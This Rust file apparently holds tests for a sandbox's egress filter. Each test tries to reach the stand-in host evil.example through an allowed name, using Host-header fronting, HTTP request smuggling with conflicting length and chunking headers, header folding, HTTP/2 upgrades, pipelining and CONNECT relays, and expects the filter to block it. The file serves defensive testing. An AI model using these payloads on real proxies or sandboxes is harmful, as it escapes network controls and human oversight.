//! HTTP that goes by one name and asks for another. The server behind `raw.allowed.example` keeps
//! every byte and answers anything.

use super::{ALLOWED, Attempt, Success};

/// Bytes to an allowed name's port 80.
macro_rules! send {
    ($name:literal, $data:literal) => {
        send!($name, "host", $data)
    };
    ($name:literal, $defence:literal, $data:literal) => {
        Attempt::new(
            $name,
            $defence,
            ALLOWED,
            concat!("HOST = 'raw.allowed.example'\nreached(HOST, data=", $data, ")"),
        )
    };
}

/// The same, where a refusal may come after the beginning was let through: what counts is whether
/// the hidden request arrives.
macro_rules! smuggle {
    ($name:literal, $word:literal, $data:literal) => {
        smuggle!($name, "requests", $word, $data)
    };
    ($name:literal, $defence:literal, $word:literal, $data:literal) => {
        Attempt::new(
            $name,
            $defence,
            ALLOWED,
            concat!("HOST = 'raw.allowed.example'\npush(HOST, ", $data, ")\nverdict(False)"),
        )
        .when(Success::Sent($word))
    };
}

/// Both at once, and time for both answers.
const PIPELINED: &str = "
with connect('raw.allowed.example', 80) as stream:
    stream.sendall(get('raw.allowed.example') + get('evil.example', '/pipelined'))
    read(stream, b'\\0never')
verdict(False)";

const LATER: &str = "
verdict(talk('raw.allowed.example', 80, get('raw.allowed.example'), get('evil.example')))";

/// A switch of protocols that the server did not agree to.
const REFUSED_UPGRADE: &str = "
ask_for = get('raw.allowed.example')[:-2] + b'Connection: upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n'
verdict(talk('raw.allowed.example', 80, ask_for, get('evil.example')))";

/// A proxy behind an allowed name that connects everybody with everything.
macro_rules! relay {
    ($name:literal, $host:literal, $port:literal) => {
        relay!($name, "requests", $host, $port)
    };
    ($name:literal, $defence:literal, $host:literal, $port:literal) => {
        Attempt::new(
            $name,
            $defence,
            ALLOWED,
            concat!(
                "
with connect('proxy.allowed.example', ",
                $port,
                ") as stream:
    stream.sendall(b'CONNECT alone.example:80 HTTP/1.1\\r\\nHost: ",
                $host,
                "\\r\\n\\r\\n')
    if b' 200 ' not in read(stream, b'\\r\\n\\r\\n'):
        verdict(False)
    stream.sendall(get('alone.example'))
    verdict(MARK in read(stream))"
            ),
        )
    };
}

#[rustfmt::skip]
pub(crate) const ATTEMPTS: &[Attempt] = &[
    send!("cannot_front_by_host", "get('evil.example')"),
    send!("cannot_ask_without_host", "b'GET / HTTP/1.1\\r\\n\\r\\n'"),
    send!("cannot_ask_in_the_first_version", "b'GET / HTTP/1.0\\r\\n\\r\\n'"),
    send!("cannot_ask_without_a_version", "requests", "b'GET /\\r\\n'"),
    send!("cannot_give_two_hosts",
        "get(HOST)[:-2] + b'Host: evil.example\\r\\n\\r\\n'"),
    send!("cannot_give_two_hosts_the_other_way",
        "get('evil.example')[:-2] + f'Host: {HOST}\\r\\n\\r\\n'.encode()"),
    send!("cannot_ask_for_a_whole_address",
        "f'GET http://evil.example/ HTTP/1.1\\r\\nHost: {HOST}\\r\\n\\r\\n'.encode()"),
    send!("cannot_put_a_user_before_the_host", "get(HOST + '@evil.example')"),
    send!("cannot_put_a_list_into_the_host", "get(HOST + ', evil.example')"),
    send!("cannot_end_the_host_early", "requests", "get(HOST + '\\0.evil.example')"),
    Attempt::new("cannot_pipeline_another_host", "host", ALLOWED, PIPELINED)
        .when(Success::Sent("GET /pipelined")),
    Attempt::new("cannot_change_the_host_later", "host", ALLOWED, LATER),
    Attempt::new("cannot_change_the_host_behind_an_upgrade", "host", ALLOWED, REFUSED_UPGRADE),
    smuggle!("cannot_smuggle_by_two_lengths", "GET /two-lengths",
        "get(HOST)[:-2] + b'Content-Length: 5\\r\\nContent-Length: 0\\r\\n\\r\\n' \
        + get('evil.example', '/two-lengths')"),
    smuggle!("cannot_smuggle_by_length_and_chunks", "GET /length-and-chunks",
        "get(HOST)[:-2] + b'Content-Length: 99\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n' \
        + get('evil.example', '/length-and-chunks')"),
    smuggle!("cannot_smuggle_by_an_odd_encoding", "GET /odd-encoding",
        "get(HOST)[:-2] + b'Content-Length: 99\\r\\nTransfer-Encoding:\\x0bchunked\\r\\n\\r\\n0\\r\\n\\r\\n' \
        + get('evil.example', '/odd-encoding')"),
    smuggle!("cannot_smuggle_by_a_huge_chunk", "GET /huge-chunk",
        "get(HOST)[:-2] + b'Transfer-Encoding: chunked\\r\\n\\r\\nfffffffffffffffff\\r\\n\\r\\n' \
        + get('evil.example', '/huge-chunk')"),
    smuggle!("cannot_smuggle_by_a_chunk_extension", "GET /chunk-extension",
        "get(HOST)[:-2] + b'Transfer-Encoding: chunked\\r\\n\\r\\n1;\\nx\\r\\n0\\r\\n\\r\\n' \
        + get('evil.example', '/chunk-extension')"),
    smuggle!("cannot_fold_a_header", "GET /folded",
        "f'GET /folded HTTP/1.1\\r\\nHost: {HOST}\\r\\n .evil.example\\r\\n\\r\\n'.encode()"),
    smuggle!("cannot_put_a_space_before_the_colon", "GET /spaced",
        "f'GET /spaced HTTP/1.1\\r\\nHost : evil.example\\r\\nHost: {HOST}\\r\\n\\r\\n'.encode()"),
    smuggle!("cannot_end_lines_by_half", "host", "GET /half-ended",
        "f'GET /half-ended HTTP/1.1\\r\\nX: y\\nHost: evil.example\\r\\nHost: {HOST}\\r\\n\\r\\n'.encode()"),
    smuggle!("cannot_hide_the_host_behind_a_long_header", "Host: behind.evil.example",
        "b'GET / HTTP/1.1\\r\\nX: ' + b'y' * 200000 + b'\\r\\nHost: behind.evil.example\\r\\n\\r\\n'"),
    smuggle!("cannot_speak_http2_by_prior_knowledge", "PRI * HTTP/2.0",
        "b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + b'\\0\\0\\0\\4\\0\\0\\0\\0\\0'"),
    smuggle!("cannot_switch_to_http2", "Upgrade: h2c",
        "get(HOST)[:-2] + b'Connection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\n\
        HTTP2-Settings: AAMAAABkAAQAAP__\\r\\n\\r\\n'"),
    relay!("cannot_relay_by_connect", "alone.example:80", "80"),
    relay!("cannot_relay_by_connect_in_the_proxys_name", "proxy.allowed.example", "80"),
    relay!("cannot_relay_by_connect_where_tls_belongs", "protocol", "proxy.allowed.example", "443"),
    relay!("cannot_relay_by_connect_on_a_proxys_port", "proxy.allowed.example", "3128"),
];
